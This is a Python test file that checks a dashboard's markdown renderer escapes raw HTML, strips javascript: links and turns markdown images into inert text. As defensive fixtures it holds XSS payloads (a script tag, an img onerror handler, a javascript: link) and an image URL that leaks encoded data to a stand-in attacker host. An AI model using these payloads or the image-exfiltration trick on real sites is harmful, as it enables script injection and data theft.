"""Markdown written by agents keeps every character of its text: raw HTML is escaped before it
is rendered (so it shows as text), and the result is still sanitised."""

from __future__ import annotations

from dashboard.rendering import markdown_html


def test_angle_brackets_in_text_and_code_are_kept():
    html = markdown_html('Add `farewell(name)` returning "Goodbye, <name>".\n\nUse `List<String>` or List<String>.')
    assert "Goodbye, &lt;name&gt;" in html
    assert "<code>List&lt;String&gt;</code>" in html
    assert "or List&lt;String&gt;." in html


def test_a_script_block_is_shown_as_text_and_never_runs():
    html = markdown_html("# Plan\n\n<script>alert(1)</script>\n\nafter")
    assert "<script" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<p>after</p>" in html


def test_an_img_with_onerror_is_text_not_an_element():
    html = markdown_html('<img src=x onerror="alert(1)">')
    assert "<img" not in html
    assert "&lt;img src=x onerror=" in html


def test_markdown_still_renders_and_links_are_safe():
    html = markdown_html("**bold** and [a link](https://example.com) and [bad](javascript:alert(1))\n\n```\na<b>\n```")
    assert "<strong>bold</strong>" in html
    assert 'href="https://example.com"' in html and 'rel="noopener noreferrer"' in html
    assert "javascript:" not in html
    assert "<pre><code>a&lt;b&gt;\n</code></pre>" in html


def test_empty_text_renders_nothing():
    assert markdown_html("") == ""


def test_a_markdown_image_is_inert_text_showing_its_url():
    """Issue 19 (item 7): `![](https://host/?d=...)` made every viewer's browser fetch the URL."""
    html = markdown_html('Plan ![chart *x*](https://evil.example/?d=c2VjcmV0&n=1 "t") and ![r][ref] and ![](http://z/)\n\n[ref]: http://e/i.png')
    assert "<img" not in html and "src=" not in html
    assert '<span class="image-ref">[image: chart *x*] https://evil.example/?d=c2VjcmV0&amp;n=1</span>' in html
    assert '<span class="image-ref">[image: r] http://e/i.png</span>' in html
    assert '<span class="image-ref">[image] http://z/</span>' in html
